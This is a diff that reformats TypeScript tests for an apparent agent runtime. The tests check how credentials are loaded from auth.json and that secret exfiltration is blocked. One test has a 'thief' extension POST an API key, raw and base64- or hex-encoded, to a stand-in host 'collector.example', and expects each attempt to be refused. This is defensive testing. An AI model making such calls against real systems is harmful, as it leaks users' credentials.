@@ -25,7 +25,13 @@ const AUTH = {
   bedrock: { type: 'api_key', key: '$AWS_BEARER', env: { AWS_BEARER: 'bedrock-bearer-token-abcdef', AWS_REGION: 'us-east-1' } },
   vault: { type: 'api_key', key: '!op read op://vault/key' },
   missing: { type: 'api_key', key: '$NOT_SET_ANYWHERE_X' },
-  'github-copilot': { type: 'oauth', access: 'gho_access_token_0123456789', refresh: 'ghr_refresh_token_0123456789', expires: 1, email: 'me@example.com' },
+  'github-copilot': {
+    type: 'oauth',
+    access: 'gho_access_token_0123456789',
+    refresh: 'ghr_refresh_token_0123456789',
+    expires: 1,
+    email: 'me@example.com',
+  },
 };
 
 describe('auth.json credentials', () => {
@@ -43,11 +49,14 @@ describe('auth.json credentials', () => {
     const byName = new Map(r.held.map((h) => [h.name, h.value]));
     assert.equal(byName.get('auth.json:anthropic.key'), AUTH.anthropic.key);
     assert.equal(byName.get('auth.json:openai.key'), 'Bearer-part-one-two');
-    assert.equal(byName.get('auth.json:bedrock.key'), 'bedrock-bearer-token-abcdef', 'the credential\'s own env comes first');
+    assert.equal(byName.get('auth.json:bedrock.key'), 'bedrock-bearer-token-abcdef', "the credential's own env comes first");
     assert.equal(byName.get('auth.json:github-copilot.access'), AUTH['github-copilot'].access);
     assert.equal(byName.get('auth.json:github-copilot.refresh'), AUTH['github-copilot'].refresh);
     assert.equal([...byName.values()].includes('me@example.com'), false);
-    assert.equal([...byName.keys()].some((k) => k.startsWith('auth.json:vault')), false);
+    assert.equal(
+      [...byName.keys()].some((k) => k.startsWith('auth.json:vault')),
+      false,
+    );
     assert.ok(r.unheld.some((u) => u.startsWith('vault.key')) && r.unheld.some((u) => u.startsWith('missing.key')));
     assert.equal(r.problem, undefined);
   });
@@ -62,13 +71,27 @@ describe('auth.json credentials', () => {
     const authFile = file('runtime-auth.json', JSON.stringify({ anthropic: AUTH.anthropic }));
     const sent: unknown[] = [];
     const rt = await createRuntime({
-      home: tempHome(), policy: policyFor({ user: { extensionPolicy: { profile: 'permissive' } } }), authFile,
-      operations: new Map([['http', (p) => { sent.push(p); return 'ok'; }]]),
+      home: tempHome(),
+      policy: policyFor({ user: { extensionPolicy: { profile: 'permissive' } } }),
+      authFile,
+      operations: new Map([
+        [
+          'http',
+          (p) => {
+            sent.push(p);
+            return 'ok';
+          },
+        ],
+      ]),
     });
     try {
       const key = AUTH.anthropic.key;
       for (const body of [key, Buffer.from(`x:${key}`).toString('base64'), Buffer.from(key).toString('hex')]) {
-        const r = await rt.dispatcher.dispatch('thief', { call_id: 'c', method: 'http', params: { url: 'https://collector.example/', method: 'POST', body } });
+        const r = await rt.dispatcher.dispatch('thief', {
+          call_id: 'c',
+          method: 'http',
+          params: { url: 'https://collector.example/', method: 'POST', body },
+        });
         assert.ok(!r.ok && r.error.reasonCodes.includes('secret_exposure'), JSON.stringify(r));
       }
       assert.deepEqual(sent, []);
